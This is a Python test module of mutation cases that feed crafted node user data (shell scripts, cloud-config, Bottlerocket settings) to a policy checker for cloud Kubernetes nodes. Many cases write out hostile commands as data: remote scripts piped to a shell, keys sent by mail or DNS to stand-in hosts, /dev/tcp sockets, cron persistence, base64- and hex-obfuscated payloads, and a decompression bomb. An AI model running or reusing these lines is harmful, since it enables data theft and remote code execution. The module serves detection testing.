"""User data: what machines are told to fetch, to ask and to join with."""

import base64
import functools
import gzip
import io
import json
import tarfile
import textwrap

from rules.unknowns import UNKNOWN
from tests.policies.mutations.mutation import Change, add, edit, opens
from tests.policies.mutations.parts import INSTANCE, TEMPLATE
from tests.policies.mutations.stacks import REGION

zipped = functools.partial(gzip.compress, mtime=0)  # the same bytes in every run

DIGEST = "@sha256:" + "0123456789abcdef" * 4
API = f"https://0123456789ABCDEF.gr7.{REGION}.eks.amazonaws.com"
EVERYTHING_NEAR = "169.254.169.254,169.254.170.23,10.0.0.0/8,172.16.0.0/12,.internal,.amazonaws.com"


def template(text: str | bytes) -> Change:
    """Nodes that are told something else."""
    data = text.encode() if isinstance(text, str) else text
    return edit(TEMPLATE, "userData", base64.b64encode(data).decode())


def script(*lines: str) -> str:
    return "\n".join(["#!/bin/bash", *lines, ""])


def packed(name: str, text: str) -> str:
    """An archive of one file, as machines fetch it, in base64."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as into:
        entry = tarfile.TarInfo(name)
        entry.size = len(text)
        into.addfile(entry, io.BytesIO(text.encode()))
    return base64.b64encode(zipped(made.getvalue())).decode()


def mime(*parts: tuple[str, str]) -> str:
    bodies = "".join(f"--B\nContent-Type: {kind}\n\n{text}\n" for kind, text in parts)
    return f'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n{bodies}--B--\n'


PODS = ("  kubelet:", "    config:", "      maxPods: 29")


def node_config(*more: str, **without: str) -> str:
    cluster = {"name": "c1", "apiServerEndpoint": API, "certificateAuthority": "Y2E=",
               "cidr": "172.20.0.0/16"}  # fmt: skip
    lines = [f"    {key}: {value}" for key, value in cluster.items() if key not in without]
    head = ["apiVersion: node.eks.aws/v1alpha1", "kind: NodeConfig", "spec:", "  cluster:"]
    return "\n".join([*head, *lines, *(more or PODS), ""])


def bottlerocket(*lines: str, metrics: str = "send-metrics = false") -> str:
    return "\n".join(
        [
            "[settings.kubernetes]",
            'cluster-name = "c1"',
            f'api-server = "{API}"',
            'cluster-certificate = "Y2E="',
            'cluster-dns-ip = "172.20.0.10"',
            "max-pods = 29",
            "[settings.metrics]",
            metrics,
            *lines,
            "",
        ]
    )


NODE_CLASS = "kubernetes:karpenter.k8s.aws/v1:EC2NodeClass"
PAYLOAD = b"curl https://hidden.example/install | sh\n"
HIDDEN = base64.b64encode(PAYLOAD).decode()
ENDPOINT = base64.b64encode(b"[default]\nendpoint_url = https://x.example\n").decode()
_HEAD = '#cloud-config\nntp: {"servers": ["0.pool.ntp.org"]}\n'
_FILE = base64.b64encode(zipped(script("wget x.example/a").encode())).decode()
MUTATIONS = (
    opens(
        "nodes that are not told how many pods they may run",
        "CN-218",
        template(node_config("  containerd: {}")),
    ),
    opens(
        "nodes that are called otherwise than their role lets them",
        "CN-219",
        template(node_config(*PODS, "  featureGates:", "    InstanceIdNodeName: true")),
    ),
    opens(
        "a script that fetches from the internet",
        "CN-201",
        template(script("set -e", "curl -fsSL https://get.example/install | bash")),
    ),
    opens(
        "a machine whose script fetches from the internet",
        "CN-201",
        edit(INSTANCE, "userData", script("wget x.example/tool.tgz")),
    ),
    opens(
        "a script that fetches from a public address",
        "CN-201",
        template(script("curl -o /tmp/a http://8.8.8.8/a")),
    ),
    opens("a script that is compressed", "CN-201", template(zipped(
        script("curl https://x.example").encode()
    ))),
    *(
        opens(f"a script that calls {what}", "CN-201", template(script(line)))
        for what, line in {
            "an address that is one number": "curl http://0xcb007109/a",
            "a host by the shell itself": "exec 3<>/dev/tcp/x.example/443",
            "a resolver with a message": "getent hosts secret.x.example",
            "a mailbox": "mail -s keys somebody@x.example < /etc/keys",
            "a host from within quotes": "sh -c 'true; curl x.example/a'",
            "a host by a line of cron": "echo '* * * * * root curl x.example' >/etc/cron.d/x",
            "a host that braces put together": "curl https://{x,y}.example/",
            "a host in place of another": "curl --resolve a.internal:443:8.8.8.8 https://a.internal",
            "a host with its port": "agent start --auth x.example.com:443",
            "a network of others": "tailscale up --authkey $KEY",
            "a time server that it writes": "echo 'server time.x.example' >/etc/chrony.conf",
            "a file system of others": "mount -t nfs files.evil.jp:/a /mnt",
            "a database by one option": "psql -h db.evil.jp -f init.sql",
            "a name with a message in it": "dig $(cat /etc/key).x.example",
            "a server of logs": "echo '*.* @@logs.evil.jp' >/etc/rsyslog.d/x.conf",
        }.items()
    ),
    *(
        opens(f"a script that hides another one in {how}", "CN-201", template(script(*lines)))
        for how, lines in {
            "base64 over several lines": textwrap.wrap(HIDDEN, 20),
            "base64 of base64": [base64.b64encode(HIDDEN.encode()).decode()],
            "compressed base64": [base64.b64encode(zipped(PAYLOAD)).decode()],
            "hexadecimal": [f"echo {PAYLOAD.hex()} | xxd -r -p | sh"],
            "escapes": ["printf '" + "".join(f"\\x{byte:02x}" for byte in PAYLOAD) + "' | sh"],
        }.items()
    ),
    opens(
        "a module of cloud-config that goes outside",
        "CN-201",
        template("#cloud-config\nubuntu_pro: {token: abc}\n"),
    ),
    *(
        opens(f"a cloud-config that leaves {what}", "CN-201", template(f"#cloud-config\n{text}\n"))
        for what, text in {
            "time to the public pool": "ntp: {enabled: true}",
            "a key to the public server": "apt: {sources: {a: {keyid: A1B2}}}",
            "an installer to its makers": "chef: {install_type: omnibus}",
        }.items()
    ),
    opens(
        "a unit of Ignition that fetches from outside",
        "CN-201",
        template(json.dumps({"ignition": {"version": "3.4.0"}, "systemd": {"units": [
            {"name": "a.service", "contents": "[Service]\nExecStart=/usr/bin/curl x.example\n"}
        ]}})),
    ),
    opens(
        "a template whose machine fills a host in",
        "CN-201",
        template("## template: jinja\n#!/bin/sh\ncurl {{ ds.meta_data.host }}\n"),
    ),
    opens(
        "AWS's programs sent elsewhere by Bottlerocket's settings",
        "CN-201",
        template(bottlerocket("[settings.aws]", f'config = "{ENDPOINT}"')),
    ),
    opens(
        "a tunnel to a peer outside",
        "CN-201",
        template(script("cat >/etc/wireguard/wg0.conf <<E", "[Peer]",
                        "Endpoint = vpn.example:51820", "E")),
    ),
    opens(
        "a script that hides another one in base64",
        "CN-201",
        template(script(f"echo {HIDDEN} | base64 -d | sh")),
    ),
    opens(
        "a script as the second of several parts",
        "CN-201",
        template(mime(("application/node.eks.aws", node_config()),
                      ("text/x-shellscript", script("curl https://x.example")))),
    ),
    opens(
        "a package from a public index", "CN-201", template(script("pip3 install --upgrade boto3"))
    ),
    opens(
        "a repository of packages outside",
        "CN-201",
        template(script("cat >/etc/yum.repos.d/x.repo <<E", "baseurl=https://repo.example/", "E")),
    ),
    opens(
        "an image's mirror outside",
        "CN-201",
        template(bottlerocket("[[settings.container-registry.mirrors]]", 'registry = "*"',
                              'endpoint = ["https://mirror.example"]')),
    ),
    opens("a name server outside", "CN-201", template(
        bottlerocket("[settings.dns]", 'name-servers = ["1.1.1.1"]')
    )),
    opens("time from outside", "CN-201", template(_HEAD)),
    opens(
        "updates from outside",
        "CN-201",
        template(bottlerocket("[settings.updates]", 'targets-base-url = "https://up.example"')),
    ),
    opens(
        "a file of cloud-config that is encoded",
        "CN-201",
        template(f"#cloud-config\nwrite_files:\n- {{path: a, encoding: gz+b64, content: {_FILE}}}"),
    ),
    opens(
        "keys of people from a public host",
        "CN-201",
        template("#cloud-config\nssh_import_id: ['gh:somebody']\n"),
    ),
    opens(
        "AWS's host of another region",
        "CN-201",
        template(script("aws s3 ls --endpoint-url https://s3.us-east-1.amazonaws.com")),
    ),
    opens(
        "a node class whose machines fetch from the internet",
        "CN-201",
        add(NODE_CLASS, {"apiVersion": "karpenter.k8s.aws/v1", "kind": "EC2NodeClass", "spec": {
            "associatePublicIPAddress": False, "userData": script("curl https://x.example")}}),
    ),
    opens(
        "a host that the machine fills in",
        "CN-201",
        template(script('curl "https://$(cat /etc/host)/x"')),
    ),
    opens(
        "a machine's image of a public registry",
        "CN-145",
        template(script(f"nerdctl run -d --name agent docker.io/agent/agent{DIGEST}")),
    ),
    opens(
        "a host container of a public registry",
        "CN-145",
        template(bottlerocket("[settings.host-containers.admin]", "enabled = true",
                              f'source = "public.ecr.aws/bottlerocket/admin{DIGEST}"')),
    ),
    opens(
        "a host container of a public registry in a table with spaces",
        "CN-145",
        template(bottlerocket().replace("[settings.kubernetes]", "[ settings.kubernetes ]") + (
            f"[ settings.host-containers.a ]\nsource = 'public.ecr.aws/a/b{DIGEST}'\n"
        )),
    ),
    opens(
        "a host container of a public registry, by a command of the first boot",
        "CN-145",
        template(bottlerocket(
            "[settings.bootstrap-commands.a]", "commands = [['apiclient', 'set', "
            f"'host-containers.a.source=public.ecr.aws/a/b{DIGEST}']]",
        )),
    ),
    opens("a proxy outside", "CN-202", template(
        script(f"export HTTPS_PROXY=http://proxy.example:3128 NO_PROXY={EVERYTHING_NEAR}")
    )),
    opens(
        "a proxy that is asked for credentials",
        "CN-202",
        template(script("export HTTPS_PROXY=http://proxy.internal:3128 NO_PROXY=.internal")),
    ),
    opens(
        "a proxy that is asked for everything",
        "CN-202",
        template(bottlerocket("[settings.network]", 'https-proxy = "proxy.internal:3128"')),
    ),
    opens("metrics to the internet", "CN-207", template(bottlerocket(metrics=""))),
    opens("a node that asks EKS how to join", "CN-208", template(node_config(cidr=""))),
    opens(
        "a node of Bottlerocket that guesses",
        "CN-208",
        template(bottlerocket().replace('cluster-dns-ip = "172.20.0.10"', "")),
    ),
    opens(
        "user data that is no text",
        "CN-206",
        template(bytes(range(128, 256))),
        verdict="undecided",
    ),
    opens(
        "user data that is cut off",
        "CN-206",
        template(zipped(b"x" * 4096)[:20]),
        verdict="undecided",
    ),
    opens(
        "user data that unfolds without end",
        "CN-206",
        template(zipped(b"\0" * 4_000_000)),
        verdict="undecided",
    ),
    opens(
        "user data that nobody knows",
        "CN-210",
        edit(TEMPLATE, "userData", UNKNOWN),
        verdict="undecided",
    ),
    opens(
        "a host of AWS without an endpoint",
        "CN-211",
        template(script(f"aws sqs list-queues --endpoint-url https://sqs.{REGION}.amazonaws.com")),
    ),
)  # fmt: skip
